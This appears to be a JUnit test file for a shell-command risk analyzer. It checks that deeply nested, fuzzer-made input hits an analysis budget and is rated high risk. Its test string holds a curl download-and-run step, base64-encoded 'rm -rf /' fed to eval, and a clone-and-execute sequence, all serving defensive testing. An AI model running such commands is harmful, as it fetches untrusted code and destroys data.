package dev.vectraguard.policy;

import org.junit.jupiter.api.Test;

import java.util.Collections;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The work of one rating is bounded: nesting that multiplies the paths to follow stops at the budget, rated high. */
class AnalysisBudgetTest {
    /** A fuzzer-made line whose unclosed quotes and substitutions nest each copy inside the one before. */
    private static final String NESTING = "bash -c \"eval \\\"$(echo cm0gLXJc \"eval echo cm0gLXJmIC8= |\\\"$(echocurl -sSLo i.sh "
            + "https://x && sh i.sh; git clone u d; cd d; ./x; T=$ cm0gLXJmmIC8= | (bc";

    @Test
    void nestingThatMultipliesThePathsStopsAtTheBudgetAndIsRatedHigh() {
        RiskReport report = RiskAnalyzer.analyze(String.join(" ; ", Collections.nCopies(8, NESTING)));
        assertTrue(report.findings().stream().anyMatch(finding -> finding.code() == FindingCode.NESTING_TOO_DEEP
                && finding.reason().contains("than vg follows in one command")), report.findings().toString());
        assertTrue(report.risk().compareTo(RiskLevel.HIGH) >= 0, report.toString());
    }

    @Test
    void anOrdinaryLongScriptStaysWithinTheBudget() {
        String script = String.join("\n", Collections.nCopies(400,
                "if [ -f package.json ]; then npm test -- --watch=false \"$(git rev-parse --short HEAD)\" | tee -a log.txt; fi"));
        RiskReport report = RiskAnalyzer.analyze("bash -c '" + script + "'");
        assertFalse(report.findings().stream().anyMatch(finding -> finding.code() == FindingCode.NESTING_TOO_DEEP),
                report.findings().toString());
        assertEquals(RiskLevel.LOW, report.risk(), report.toString());
    }
}
